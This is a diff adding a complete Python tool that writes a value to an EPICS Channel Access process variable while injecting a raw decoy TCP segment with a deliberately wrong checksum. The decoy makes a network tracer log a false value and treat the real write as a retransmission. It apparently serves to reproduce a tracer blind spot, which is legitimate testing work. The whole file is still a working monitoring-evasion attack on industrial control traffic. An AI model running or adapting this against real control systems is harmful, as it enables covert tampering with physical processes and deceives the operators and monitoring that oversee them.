@@ -1,0 +1,128 @@
+#!/usr/bin/env python3
+"""A CA client that hides a write behind a decoy (issue 14): over a real
+circuit to the IOC it sends, at the sequence number its socket uses next,
+a hand-built WRITE of DECOY whose TCP checksum is wrong, then the real
+WRITE of VALUE through the socket.  The IOC's stack drops the decoy and
+applies the real one; a tracer that believes the decoy logs a value never
+written and takes the real one for a retransmission.
+
+Usage: ca_decoy.py IFACE HOST PV VALUE DECOY
+Prints "read back V", the value the IOC holds afterwards (READ_NOTIFY).
+Exit 0 when every answer came, 1 otherwise.  Needs root (AF_PACKET)."""
+import socket
+import struct
+import sys
+import time
+
+VERSION, WRITE, READ_NOTIFY, CREATE_CHAN = 0, 4, 15, 18
+CLIENT_NAME, HOST_NAME = 20, 21
+DBR_DOUBLE = 6
+ETH_P_ALL = 0x0003
+
+
+def pad8(b):
+    return b + b"\0" * (-len(b) % 8)
+
+
+def msg(cmd, payload=b"", dtype=0, count=0, p1=0, p2=0):
+    payload = pad8(payload)
+    return struct.pack("!HHHHII", cmd, len(payload), dtype, count, p1, p2) + payload
+
+
+def recv_exact(sock, n):
+    b = b""
+    while len(b) < n:
+        chunk = sock.recv(n - len(b))
+        if not chunk:
+            raise EOFError("the IOC closed the circuit")
+        b += chunk
+    return b
+
+
+def wait_for(sock, cmd):
+    while True:
+        c, size, dtype, count, p1, p2 = struct.unpack("!HHHHII", recv_exact(sock, 16))
+        body = recv_exact(sock, size)
+        if c == cmd:
+            return dtype, count, p1, p2, body
+
+
+def csum(b):
+    if len(b) % 2:
+        b += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return ~s & 0xFFFF
+
+
+def last_sent(sniff, sport):
+    """The newest frame this socket sent (the sniffer sees both ways):
+    (ethernet header, ip header, tcp header, payload length)."""
+    newest = None
+    sniff.setblocking(False)
+    while True:
+        try:
+            frame = sniff.recv(65535)
+        except BlockingIOError:
+            return newest
+        if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 6:
+            continue
+        ihl = (frame[14] & 0x0F) * 4
+        tcp = frame[14 + ihl:]
+        if struct.unpack("!H", tcp[0:2])[0] != sport:
+            continue
+        tot = struct.unpack("!H", frame[16:18])[0]
+        doff = (tcp[12] >> 4) * 4
+        newest = (frame[:14], frame[14:14 + ihl], tcp[:doff], tot - ihl - doff)
+
+
+def decoy_frame(seen, payload):
+    eth, ip, tcp, plen = seen
+    seq, ack = struct.unpack("!II", tcp[4:12])
+    window = struct.unpack("!H", tcp[14:16])[0]
+    src, dst = ip[12:16], ip[16:20]
+    th = struct.pack("!HHIIBBHHH", struct.unpack("!H", tcp[0:2])[0],
+                     struct.unpack("!H", tcp[2:4])[0], (seq + plen) & 0xFFFFFFFF, ack,
+                     5 << 4, 0x18, window, 0, 0)
+    right = csum(src + dst + struct.pack("!BBH", 0, 6, len(th) + len(payload)) + th + payload)
+    th = th[:16] + struct.pack("!H", (right + 1) & 0xFFFF) + th[18:]   # wrong on purpose
+    iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(th) + len(payload), 0x4242, 0x4000,
+                      64, 6, 0, src, dst)
+    iph = iph[:10] + struct.pack("!H", csum(iph)) + iph[12:]
+    return eth + iph + th + payload
+
+
+def main():
+    iface, host, pv, value, decoy = sys.argv[1], sys.argv[2], sys.argv[3], \
+        float(sys.argv[4]), float(sys.argv[5])
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
+    sniff.bind((iface, 0))
+    s = socket.create_connection((host, 5064), timeout=5)
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    s.sendall(msg(VERSION, count=13) + msg(CLIENT_NAME, b"decoy\0") +
+              msg(HOST_NAME, b"decoyhost\0") +
+              msg(CREATE_CHAN, pv.encode() + b"\0", p1=1, p2=13))
+    _, _, _, sid, _ = wait_for(s, CREATE_CHAN)
+    time.sleep(0.3)   # our ACKs out: the socket is quiet
+    seen = last_sent(sniff, s.getsockname()[1])
+    if seen is None:
+        print("no frame of the circuit seen on %s" % iface)
+        return 1
+    fake = msg(WRITE, struct.pack("!d", decoy), DBR_DOUBLE, 1, sid, 1)
+    sniff.send(decoy_frame(seen, fake))
+    s.sendall(msg(WRITE, struct.pack("!d", value), DBR_DOUBLE, 1, sid, 2))
+    time.sleep(0.2)
+    s.sendall(msg(READ_NOTIFY, b"", DBR_DOUBLE, 1, sid, 3))
+    _, _, status, _, body = wait_for(s, READ_NOTIFY)
+    print("read back %g" % struct.unpack("!d", body[:8])[0])
+    s.close()
+    return 0
+
+
+if __name__ == "__main__":
+    try:
+        sys.exit(main())
+    except (OSError, EOFError) as e:
+        print("ca_decoy: %s" % e)
+        sys.exit(1)
